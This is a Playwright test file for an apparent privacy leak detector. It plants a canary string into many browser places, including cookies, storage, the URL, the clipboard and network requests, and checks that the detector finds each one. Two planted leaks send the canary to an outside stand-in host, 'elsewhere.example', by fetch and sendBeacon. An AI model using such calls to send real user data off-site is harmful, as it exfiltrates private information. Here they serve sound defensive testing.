import { expect, type Page, test } from '@playwright/test';
import { leaks, look, type Sink, sinks } from './support/sinks';
import { Visitor } from './support/visitor';

const canary = 'orderOrCheckIn';

/** A deliberate leak into each place, as a careless line of our own code could make it. */
const planted: [leak: string, sink: Sink, plant: (page: Page) => Promise<unknown>][] = [
  [
    'a cookie',
    'cookie',
    run((text) => {
      // biome-ignore lint/suspicious/noDocumentCookie: a leak is what this plants.
      document.cookie = `court=${text}`;
    }),
  ],
  ['localStorage', 'localStorage', run((text) => localStorage.setItem('court', text))],
  ['sessionStorage', 'sessionStorage', run((text) => sessionStorage.setItem('court', text))],
  ['a database', 'indexedDB', run(intoDatabase)],
  [
    'a cached answer',
    'cache',
    run(async (text) => (await caches.open('v1')).put('/court', new Response(text))),
  ],
  ['a query in the address', 'address', run((text) => history.replaceState(null, '', `?court=${text}`))],
  [
    'a hash in the address',
    'address',
    run((text) => {
      location.hash = text;
    }),
  ],
  ['an address gone back from', 'address', run(intoOlderEntry)],
  [
    'the title',
    'title',
    run((text) => {
      document.title = `Court: ${text}`;
    }),
  ],
  ['the state of the history', 'historyState', run((text) => history.replaceState(text, ''))],
  [
    'the name of the window',
    'windowName',
    run((text) => {
      window.name = text;
    }),
  ],
  [
    'a hidden attribute',
    'document',
    run((text) => {
      document.body.dataset.court = text;
    }),
  ],
  ['the console', 'console', run((text) => console.log(text))],
  ['the clipboard', 'clipboard', run(intoClipboard)],
  [
    'a request to our own server',
    'request',
    run((court) => fetch('/icon.svg', { method: 'POST', body: JSON.stringify({ court }) })),
  ],
  ['the address of a request', 'request', run((text) => fetch(`/icon.svg?court=${text}`))],
  // Refused before it is made; what is refused is told to the console.
  [
    'a request to somebody else',
    'console',
    run((text) => fetch(`//elsewhere.example/${text}`).catch(() => 0)),
  ],
  [
    'a beacon to somebody else',
    'console',
    run((text) => navigator.sendBeacon(`//elsewhere.example/${text}`)),
  ],
  ['the memory', 'heap', run((court) => void Object.assign(window, { kept: { court } }))],
];

for (const [leak, sink, plant] of planted) {
  test(`a leak into ${leak} is found, and in no other place`, async ({ page, baseURL }) => {
    const watched = await look(page, `${baseURL}`);
    await new Visitor(page).open();
    await plant(page);
    await expect.poll(async () => Object.keys(await leaks(watched, [canary]))).toEqual([sink]);
  });
}

test('where nothing leaks, nothing is found', async ({ page, baseURL }) => {
  const watched = await look(page, `${baseURL}`);
  await new Visitor(page).open();
  expect(await leaks(watched, [canary])).toEqual({});
});

test('what is on the screen is found in all that shows it', async ({ page, baseURL }) => {
  const watched = await look(page, `${baseURL}`);
  await new Visitor(page).open();
  await page.evaluate((text) => document.querySelector('main')?.append(text), canary);
  expect(Object.keys(await leaks(watched, [canary]))).toEqual(['document', 'accessibility', 'print']);
});

test('every place that we search has a leak that proves it is searched', () => {
  const proven = [...planted.map(([, sink]) => sink), 'document', 'accessibility', 'print'];
  expect([...new Set(proven)].sort()).toEqual(Object.keys(sinks).sort());
});

function run(plant: (canary: string) => unknown) {
  return (page: Page) => page.evaluate(plant as (canary: string) => Promise<void>, canary);
}

function intoDatabase(text: string) {
  return new Promise((done) => {
    const opening = indexedDB.open('visit');
    opening.onupgradeneeded = () => opening.result.createObjectStore('answers').put(text, 'court');
    opening.onsuccess = () => done(opening.result.close());
  });
}

function intoOlderEntry(text: string) {
  const { pathname } = location;
  history.replaceState(null, '', `${pathname}?court=${text}`);
  history.pushState(null, '', pathname);
}

/** The old way, which no header forbids; it needs something selected that is not seen. */
function intoClipboard(text: string) {
  document.addEventListener(
    'copy',
    (event) => {
      event.clipboardData?.setData('text/plain', text);
      event.preventDefault();
    },
    { once: true },
  );
  document.execCommand('copy');
}
